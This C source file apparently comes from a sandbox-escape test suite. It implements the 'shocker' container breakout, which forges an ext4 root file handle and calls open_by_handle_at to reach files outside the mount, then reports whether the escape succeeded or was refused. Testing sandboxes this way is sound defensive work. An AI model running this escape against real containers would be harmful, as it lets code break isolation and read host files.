// Opens a file by its handle, past every mount ("shocker", 2014): handles name inodes of the whole
// file system.
#include <fcntl.h>
#include <unistd.h>

#include "attack.h"

void Attack(void) {
  union {
    struct file_handle handle;
    char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
  } storage;
  storage.handle.handle_bytes = MAX_HANDLE_SZ;
  int mount = 0;
  if (name_to_handle_at(AT_FDCWD, ".", &storage.handle, &mount, 0) < 0) {
    Refused("name_to_handle_at");
    // The handle of an ext4 root directory, as one would guess it: inode 2, generation 0.
    storage.handle.handle_bytes = 8;
    storage.handle.handle_type = 1;
    unsigned char root[8] = {2};
    __builtin_memcpy(storage.handle.f_handle, root, sizeof(root));
  }
  int directory = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  int fd = open_by_handle_at(directory, &storage.handle, O_RDONLY | O_CLOEXEC);
  if (fd >= 0) Escaped("opened a directory by its handle");
  Refused("open_by_handle_at");
  AllRefused();
}
